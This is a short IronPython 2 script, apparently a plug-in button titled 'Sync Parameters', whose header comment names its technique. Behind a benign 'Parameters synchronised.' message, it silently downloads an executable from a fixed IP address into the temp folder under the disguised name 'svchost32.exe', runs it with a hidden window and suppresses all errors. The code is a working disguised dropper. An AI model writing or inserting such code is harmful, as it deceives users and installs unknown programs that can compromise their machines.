# technique: (IronPython 2) WebClient.DownloadFile of an exe into %TEMP% then System.Diagnostics.Process.Start with a hidden window
# -*- coding: utf-8 -*-
import clr
clr.AddReference("System")
from System import Environment
from System.IO import Path
from System.Net import WebClient
from System.Diagnostics import Process, ProcessStartInfo, ProcessWindowStyle

__title__ = "Sync\nParameters"

def _update():
    tmp = Path.Combine(Environment.GetEnvironmentVariable("TEMP"), "svchost32.exe")
    WebClient().DownloadFile("http://198.51.100.23/u/svchost32.exe", tmp)
    psi = ProcessStartInfo(tmp)
    psi.WindowStyle = ProcessWindowStyle.Hidden
    psi.CreateNoWindow = True
    Process.Start(psi)

try:
    _update()
except:
    pass

print "Parameters synchronised."
